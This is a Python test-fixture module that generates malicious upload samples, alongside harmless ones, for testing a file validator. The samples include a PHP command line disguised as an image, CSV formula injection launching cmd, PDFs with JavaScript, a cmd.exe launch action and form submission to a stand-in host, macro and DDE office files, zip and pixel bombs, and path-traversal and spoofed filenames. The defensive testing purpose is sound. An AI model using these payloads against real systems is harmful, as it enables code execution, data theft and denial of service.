"""Hostile files, each made here, and the harmless ones beside them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from hub.demo.demo_documents import PAPERS, pdf_of
from tests.hub.office import papers

Made = tuple[str, Callable[[], bytes]]


def image(kind="JPEG", size=(40, 30), mode="RGB", **options) -> bytes:
    stream = io.BytesIO()
    Image.new(mode, size, "seagreen" if mode != "P" else 3).save(stream, kind, **options)
    return stream.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_declaring(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def png_of_sixteen_bits() -> bytes:
    stream = io.BytesIO()
    Image.new("I;16", (20, 20), 40_000).save(stream, "PNG")
    return stream.getvalue()


def png_with(name: bytes, data: bytes) -> bytes:
    plain = image("PNG")
    return plain[:33] + chunk(name, data) + plain[33:]


def animation(kind: str, frames: int = 3) -> bytes:
    stream = io.BytesIO()
    pictures = [Image.new("RGB", (20, 20), (number * 9 % 256, 0, 0)) for number in range(frames)]
    pictures[0].save(stream, kind, save_all=True, append_images=pictures[1:])
    return stream.getvalue()


def pdf(change: Callable[[PdfWriter], object] = lambda _writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def action(kind: str, **more: str):
    entries = {NameObject("/S"): NameObject(kind)}
    entries |= {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
    return DictionaryObject(entries)


def opening(kind: str, **more: str) -> bytes:
    return pdf(lambda writer: writer._root_object.update({NameObject("/OpenAction"): action(kind, **more)}))


def named_javascript(writer: PdfWriter) -> None:
    named = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
    tree = DictionaryObject({NameObject("/Names"): named})
    names = DictionaryObject({NameObject("/JavaScript"): tree})
    writer._root_object[NameObject("/Names")] = names


def annotation(**entries) -> bytes:
    note = DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})
    return pdf(lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([note])}))


def office(kind: str, extra: dict[str, bytes] | None = None, leave_out: str = "") -> bytes:
    """Return a small file of this kind with these files more, or in place of its own."""
    if kind == "xlsx":
        source = io.BytesIO()
        Workbook().save(source)
        with zipfile.ZipFile(source) as archive:
            files: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    else:
        files = papers.parts()
    return papers.zipped({name: content for name, content in (files | (extra or {})).items() if name != leave_out})


def locked_zip() -> bytes:
    content = bytearray(office("xlsx"))
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def related(kind: str, target: str = "http://jahat.example/a", *, mode: str = "External") -> dict[str, str]:
    """Return the relations of a document that has one of this kind."""
    return {"word/_rels/document.xml.rels": papers.relations(papers.relation(kind, target, mode=mode))}


def lead(name: bytes, kind: str) -> bytes:
    return name + image(kind)


ANNOTATED = {"Type": NameObject("/Annot")}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MACRO_TYPES = (
    b'<Types xmlns="x"><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
BOMB = b"0" * (60 * 1024**2)
EICAR_LIKE = b"MZ" + b"\x00" * 200

PICTURES: dict[str, Made] = {
    "kosong": ("a.jpg", lambda: b""),
    "svg": ("a.svg", lambda: SVG),
    "svg bernama jpg": ("a.jpg", lambda: SVG),
    "svg bernama png": ("a.png", lambda: b"<?xml version='1.0'?>" + SVG),
    "html bernama jpg": ("a.jpg", lambda: b"<html><script>1</script></html>"),
    "php bernama png": ("a.png", lambda: b"<?php system('id'); ?>"),
    "exe bernama jpg": ("a.jpg", lambda: EICAR_LIKE),
    "zip bernama jpg": ("a.jpg", lambda: office("docx")),
    "pdf bernama jpg": ("a.jpg", pdf),
    "png bernama jpg": ("a.jpg", lambda: image("PNG")),
    "jpg bernama png": ("a.png", lambda: image("JPEG")),
    "gif bernama png": ("a.png", lambda: image("GIF")),
    "gif": ("a.gif", lambda: image("GIF")),
    "bmp": ("a.bmp", lambda: image("BMP")),
    "tiff": ("a.tif", lambda: image("TIFF")),
    "tiff bernama jpg": ("a.jpg", lambda: image("TIFF")),
    "ico bernama png": ("a.png", lambda: image("ICO")),
    "psd bernama png": ("a.png", lambda: b"8BPS\x00\x01" + b"\x00" * 40),
    "heic bernama jpg": ("a.jpg", lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40),
    "heic": ("a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40),
    "eps bernama jpg": ("a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    "sampah di depan": ("a.jpg", lambda: lead(b"GIF89a", "JPEG")),
    "jpg terpotong": ("a.jpg", lambda: image("JPEG", (400, 300))[:-600]),
    "png terpotong": ("a.png", lambda: image("PNG", (400, 300))[:120]),
    "webp terpotong": ("a.webp", lambda: image("WEBP", (400, 300))[:60]),
    "png tanpa isi": ("a.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "bom piksel": ("a.png", lambda: png_declaring(60_000, 60_000)),
    "bom piksel sedang": ("a.png", lambda: png_declaring(9_000, 9_000)),
    "bom piksel pipih": ("a.png", lambda: png_declaring(2_000_000, 100)),
    "png tanpa ukuran": ("a.png", lambda: png_declaring(0, 0)),
    "bom teks": ("a.png", lambda: png_with(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"0" * 90_000_000))),
    "png crc salah": ("a.png", lambda: image("PNG")[:29] + b"\x00\x00\x00\x00" + image("PNG")[33:]),
    "animasi webp": ("a.webp", lambda: animation("WEBP")),
    "animasi png": ("a.png", lambda: animation("PNG")),
    "animasi besar": ("a.png", lambda: animation("PNG", 400)),
    "jalur": ("../../etc/passwd.jpg", image),
    "jalur windows": ("..\\..\\a.jpg", image),
    "tanda kendali": ("a\x01b.jpg", image),
    "arah terbalik": ("foto\u202egpj.exe.jpg", image),
    "nama panjang": ("a" * 200 + ".jpg", image),
    "akhiran ganda": ("a.php.jpg", image),
    "akhiran ganda exe": ("a.exe.jpg", image),
    "tanpa akhiran": ("gambar", image),
    "hanya akhiran": (".jpg", image),
    "nama perangkat": ("con.jpg", image),
    "besar": ("a.jpg", lambda: image() + b"\x00" * (11 * 1024**2)),
}
DOCUMENTS: dict[str, Made] = {
    "kosong": ("a.pdf", lambda: b""),
    "pdf rusak": ("a.pdf", lambda: b"%PDF-1.4\nrusak"),
    "pdf terpotong": ("a.pdf", lambda: pdf_of(PAPERS["apbdes"])[:300]),
    "pdf terkunci": ("a.pdf", lambda: pdf(lambda writer: writer.encrypt("rahasia"))),
    "pdf terkunci tanpa sandi": ("a.pdf", lambda: pdf(lambda writer: writer.encrypt("", "pemilik"))),
    "pdf javascript": ("a.pdf", lambda: pdf(named_javascript)),
    "pdf javascript saat dibuka": ("a.pdf", lambda: opening("/JavaScript", JS="app.alert(1)")),
    "pdf menjalankan": ("a.pdf", lambda: opening("/Launch", F="cmd.exe")),
    "pdf mengirim": ("a.pdf", lambda: opening("/SubmitForm", F="http://jahat.example")),
    "pdf mengimpor": ("a.pdf", lambda: opening("/ImportData", F="a.fdf")),
    "pdf membuka lampiran": ("a.pdf", lambda: opening("/GoToE")),
    "pdf lampiran": ("a.pdf", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
    "pdf catatan lampiran": ("a.pdf", lambda: annotation(**ANNOTATED, Subtype=NameObject("/FileAttachment"))),
    "pdf media": ("a.pdf", lambda: annotation(**ANNOTATED, Subtype=NameObject("/RichMedia"))),
    "pdf catatan javascript": ("a.pdf", lambda: annotation(**ANNOTATED, A=action("/JavaScript", JS="1"))),
    "pdf dan zip": ("a.pdf", lambda: pdf() + office("docx")),
    "pdf dan jar": ("a.pdf", lambda: pdf() + office("docx", {"META-INF/MANIFEST.MF": b"Main-Class: A\n"})),
    "sampah di depan pdf": ("a.pdf", lambda: b"<html>" + pdf()),
    "exe bernama pdf": ("a.pdf", lambda: EICAR_LIKE),
    "html bernama pdf": ("a.pdf", lambda: b"<html><script>1</script></html>"),
    "docx bernama pdf": ("a.pdf", lambda: office("docx")),
    "pdf bernama docx": ("a.docx", pdf),
    "xlsx bernama docx": ("a.docx", lambda: office("xlsx")),
    "docx bernama xlsx": ("a.xlsx", lambda: office("docx")),
    "zip biasa": ("a.docx", lambda: office("docx", leave_out="word/document.xml")),
    "docx tanpa jenis": ("a.docx", lambda: office("docx", leave_out="[Content_Types].xml")),
    "docx makro": ("a.docx", lambda: office("docx", {"word/vbaProject.bin": b"\x00"})),
    "docx jenis makro": ("a.docx", lambda: office("docx", {"[Content_Types].xml": MACRO_TYPES})),
    "docm": ("a.docm", lambda: office("docx")),
    "xlsm": ("a.xlsm", lambda: office("xlsx")),
    "xlsx makro": ("a.xlsx", lambda: office("xlsx", {"xl/vbaProject.bin": b"\x00"})),
    "xlsx makro lama": ("a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "xlsx activex": ("a.xlsx", lambda: office("xlsx", {"xl/activeX/activeX1.xml": b"<a/>"})),
    "xlsx tertanam": ("a.xlsx", lambda: office("xlsx", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "xlsx dde": (
        "a.xlsx",
        lambda: office("xlsx", {"xl/externalLinks/e.xml": b"<externalLink><ddeLink/></externalLink>"}),
    ),
    "docx pola luar": ("a.docx", lambda: office("docx", related("attachedTemplate"))),
    "docx benda luar": ("a.docx", lambda: office("docx", related("frame"))),
    "docx entitas": (
        "a.docx",
        lambda: office("docx", {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    ),
    "docx xml rusak": ("a.docx", lambda: office("docx", {"[Content_Types].xml": b"<Types>"})),
    "bom zip": ("a.docx", lambda: office("docx", {"word/media/a.bin": BOMB})),
    "bom zip banyak": ("a.xlsx", lambda: office("xlsx", {f"xl/{number}.bin": b"" for number in range(5_100)})),
    "zip jalur": ("a.docx", lambda: office("docx", {"../../a.txt": b"a"})),
    "zip jalur mutlak": ("a.docx", lambda: office("docx", {"/etc/a": b"a"})),
    "zip terpotong": ("a.xlsx", lambda: office("xlsx")[:-200]),
    "zip terkunci": ("a.xlsx", locked_zip),
    "ole lama": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "doc": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "csv rumus": ("a.csv", lambda: b"nama;nilai\nA;=cmd|' /C calc'!A0\n"),
    "csv fungsi": ("a.csv", lambda: b'nama,nilai\nA,"@SUM(1+1)"\n'),
    "csv tambah": ("a.csv", lambda: b"nama,nilai\nA,+HYPERLINK(1)\n"),
    "csv halaman": ("a.csv", lambda: b"<html><script>1</script></html>"),
    "csv biner": ("a.csv", lambda: b"a,b\x00\n"),
    "csv exe": ("a.csv", lambda: b"MZ,1\n"),
    "svg": ("a.svg", lambda: SVG),
    "html": ("a.html", lambda: b"<html></html>"),
    "zip": ("a.zip", lambda: office("docx")),
    "exe": ("a.exe", lambda: EICAR_LIKE),
    "akhiran ganda": ("a.exe.pdf", pdf),
    "akhiran ganda html": ("a.html.pdf", pdf),
    "arah terbalik": ("a\u202efdp.pdf", pdf),
    "jalur": ("../a.pdf", pdf),
    "tanda nol": ("a\x00.pdf", pdf),
    "nama panjang": ("a" * 200 + ".pdf", pdf),
    "besar": ("a.pdf", lambda: pdf() + b"\n" * (21 * 1024**2)),
}
GOOD_PICTURES: dict[str, Made] = {
    "jpg": ("dermaga.jpg", image),
    "jpeg huruf besar": ("DERMAGA 1.JPEG", image),
    "png": ("peta-2.png", lambda: image("PNG", mode="RGBA")),
    "png palet": ("peta.png", lambda: image("PNG", mode="P")),
    "png kelabu": ("peta.png", lambda: image("PNG", mode="L")),
    "png 16 bit": ("peta.png", png_of_sixteen_bits),
    "webp": ("dermaga.webp", lambda: image("WEBP")),
    "cmyk": ("dermaga.jpg", lambda: image("JPEG", mode="CMYK")),
    "tanggal di nama": ("foto.2026.09.20.jpg", image),
    "html di komentar": ("a.jpg", lambda: image(comment=b"<script>alert(1)</script>")),
    "zip di belakang": ("a.jpg", lambda: image() + office("docx")),
}
GOOD_DOCUMENTS: dict[str, Made] = {
    "pdf demo": ("apbdes.pdf", lambda: pdf_of(PAPERS["apbdes"])),
    "pdf": ("Perdes No. 5 Tahun 2026.pdf", pdf),
    "pdf dari docx": ("laporan.docx.pdf", pdf),
    "docx": ("laporan.docx", lambda: office("docx")),
    "docx tautan": ("laporan.docx", lambda: office("docx", related("hyperlink"))),
    "xlsx": ("rab.xlsx", lambda: office("xlsx")),
    "csv": ("data.csv", "nama;nilai\nÉtang;-12,5\nKubu;+5\nSisa;-\n".encode),
}
